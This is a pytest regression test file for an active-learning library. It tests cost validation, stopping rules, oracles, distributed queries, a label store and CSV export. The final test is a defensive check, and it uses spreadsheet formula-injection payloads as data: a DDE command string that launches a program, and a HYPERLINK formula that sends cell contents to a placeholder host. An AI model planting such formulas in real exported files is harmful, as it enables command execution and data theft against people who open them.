"""Regression tests for defects found by review after the scenario, cost and server merges."""

import numpy as np
import pytest
from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

from activelab import ActiveLoop, CostBudget, Pool, SimulatedOracle, strategies
from activelab.errors import ActiveLabError
from activelab.oracles import Answers
from activelab.oracles.costs import ItemCosts, knapsack_greedy
from activelab.oracles.nearest import NearestItemOracle
from activelab.oracles.panel import Annotator, AnnotatorPanel
from activelab.strategies.cost_sensitive import CostSensitive


def _iris_pool():
    X, y = load_iris(return_X_y=True)
    pool = Pool(X)
    pool.add_labels([0, 50, 100], y[[0, 50, 100]])
    return X, y, pool


def test_run_stops_when_the_strategy_can_pick_nothing():
    X, y, pool = _iris_pool()
    costs = ItemCosts(values=np.full(len(X), 5.0))
    loop = ActiveLoop(LogisticRegression(max_iter=300), pool,
                      CostSensitive(costs=costs, budget=2.0), SimulatedOracle(y),
                      batch_size=3, random_state=0)
    history = loop.run(max_rounds=50)
    assert "returned no items" in loop.stop_reason
    assert history[-1].stop_reason == loop.stop_reason
    assert pool.n_labeled == 3


@pytest.mark.parametrize("bad", ["x", -5.0, float("nan"), float("inf"), True])
def test_a_bad_cost_writes_nothing(bad):
    pool = Pool(np.eye(3))
    with pytest.raises(ActiveLabError, match="cost"):
        pool.add_labels([0, 1], [1, 0], costs=[1.0, bad])
    assert pool.n_labeled == 0 and pool.events == [] and pool.version == 0
    with pytest.raises(ActiveLabError, match="cost"):
        pool.add_unsure([0], costs=[bad])
    assert pool.events == []


@pytest.mark.parametrize("bad", [float("nan"), -1.0, "3"])
def test_tell_refuses_a_bad_batch_cost(bad):
    _, _, pool = _iris_pool()
    loop = ActiveLoop(LogisticRegression(max_iter=300), pool, strategies.get("margin"))
    with pytest.raises(ActiveLabError, match="cost"):
        loop.tell([1], [0], cost=bad)
    assert loop.total_cost == 0.0 and not pool.is_labeled([1])[0]


def test_per_id_costs_count_towards_the_cost_budget():
    X, y, pool = _iris_pool()
    loop = ActiveLoop(LogisticRegression(max_iter=300), pool, strategies.get("margin"),
                      stopping=[CostBudget(10.0)], batch_size=5, random_state=0)
    query = loop.ask()
    loop.tell(query.ids, y[query.ids], costs=[2.0] * len(query.ids))
    assert loop.total_cost == pytest.approx(10.0)
    assert loop._stop_check() is not None


def test_unsure_answers_log_what_they_cost():
    X, y, pool = _iris_pool()
    panel = AnnotatorPanel(y, [Annotator("a", accuracy=0.9, cost=1.0, unsure_rate=0.5)],
                           random_state=0)
    loop = ActiveLoop(LogisticRegression(max_iter=300), pool, strategies.get("margin"), panel,
                      batch_size=5, stopping=[CostBudget(30)], random_state=0)
    loop.run()
    paid = sum(e.cost for e in pool.events)
    assert any(e.kind == "unsure" for e in pool.events)
    assert all(e.cost > 0 for e in pool.events if e.kind == "unsure")
    assert paid == pytest.approx(loop.total_cost)


def test_nearest_item_oracle_matches_labels_by_id():
    items = np.array([[0.0, 0.0], [1.0, 1.0], [2.0, 2.0]])
    truth = {0: "a", 1: "b", 2: "c"}

    class Reversed:
        def label(self, ids):
            ids = np.asarray(ids)[::-1]
            return Answers(ids=ids, labels=np.array([truth[int(i)] for i in ids]))

    answers = NearestItemOracle(items, Reversed()).label(np.array([[0.1, 0.0], [1.9, 2.1]]))
    assert [truth[int(i)] for i in answers.item_ids] == list(answers.labels)


def test_wrappers_name_what_they_need():
    X, y, pool = _iris_pool()
    model = LogisticRegression(max_iter=300).fit(*pool.labeled_data())
    with pytest.raises(ActiveLabError, match="per-item scorer"):
        strategies.get("unsure_aware", strategy=strategies.get("batch_bald")).query(model, pool, 2)
    wrapped = strategies.get("unsure_aware", strategy="entropy").query(model, pool, 3, random_state=0)
    assert len(wrapped.ids) == 3
    for kwargs, word in [({"budget": "abc"}, "budget"), ({"power": "x"}, "power")]:
        with pytest.raises(ActiveLabError, match=word):
            CostSensitive(**kwargs).query(model, pool, 3, random_state=0)
    with pytest.raises(ActiveLabError, match="budget"):
        knapsack_greedy(np.ones(3), np.ones(3), None)

    def broken(item):
        raise IndexError("no such field")

    with pytest.raises(ActiveLabError, match="failed on item"):
        CostSensitive(costs=ItemCosts(function=broken)).query(model, pool, 3, random_state=0)


def test_distributed_query_never_returns_labeled_ids_given_in_another_dtype():
    pytest.importorskip("dask")
    import dask.array as da
    from sklearn.linear_model import LogisticRegression as LR

    from activelab.distributed import distributed_query

    rng = np.random.default_rng(0)
    X = rng.normal(size=(200, 3))
    model = LR().fit(X[:20], (X[:20, 0] > 0).astype(int))
    names = np.array([f"r{i}" for i in range(200)])
    first = distributed_query("margin", model, da.from_array(X, chunks=50), 5, ids=names,
                              client="sync")
    as_objects = np.array(first.ids.tolist(), dtype=object)
    again = distributed_query("margin", model, da.from_array(X, chunks=50), 5, ids=names,
                              labeled_ids=as_objects, client="sync")
    assert not np.isin(again.ids, first.ids).any()
    plain = distributed_query("margin", model, da.from_array(X, chunks=50), 5, client="sync")
    floats = distributed_query("margin", model, da.from_array(X, chunks=50), 5,
                               labeled_ids=plain.ids.astype(float), client="sync")
    assert not np.isin(floats.ids, plain.ids).any()
    with pytest.raises(ActiveLabError, match="same kind"):
        distributed_query("margin", model, da.from_array(X, chunks=50), 5,
                          labeled_ids=["a", "b"], client="sync")


def _store_with_items(labels_per_item=1, content="text {i}"):
    pytest.importorskip("sqlalchemy")
    from activelab.store.importer import ImportedItem
    from activelab.store.store import ProjectSettings, Store

    store = Store("sqlite://")
    items = [ImportedItem(f"x{i}", content.format(i=i), i + 2) for i in range(3)]
    store.create_project("demo", items, ProjectSettings(labels=("pos", "neg"),
                                                         labels_per_item=labels_per_item))
    return store


def test_no_label_beyond_labels_per_item_without_a_lease():
    from activelab.store.store import ConflictError

    store = _store_with_items(labels_per_item=1)
    a = store.user_by_token(store.add_user("a", "annotator"))
    b = store.user_by_token(store.add_user("b", "annotator"))
    lease = store.next_item("demo", a)
    store.annotate("demo", a, lease.item_id, "pos", lease_id=lease.lease_id)
    before = store.export_rows("demo", "events")
    with pytest.raises(ConflictError, match="already has"):
        store.annotate("demo", b, lease.item_id, "neg")
    assert store.export_rows("demo", "events") == before


def test_csv_export_defuses_spreadsheet_formulas_but_keeps_numbers():
    from activelab.server.app import to_csv

    store = _store_with_items(content="=cmd|' /C calc'!A0 {i}")
    a = store.user_by_token(store.add_user("a", "annotator"))
    lease = store.next_item("demo", a)
    store.annotate("demo", a, lease.item_id, "pos", lease_id=lease.lease_id,
                   rationale='=HYPERLINK("http://x.invalid/?"&A1,"click")')
    events = to_csv(store.export_rows("demo", "events"), "events")
    assert "'=HYPERLINK" in events and ",=HYPERLINK" not in events
    labels = to_csv(store.export_rows("demo", "labels"), "labels")
    assert "'=cmd" in labels
    assert to_csv([{"label": "-1", "note": "-x"}], "labels").splitlines()[1] == "-1,'-x"
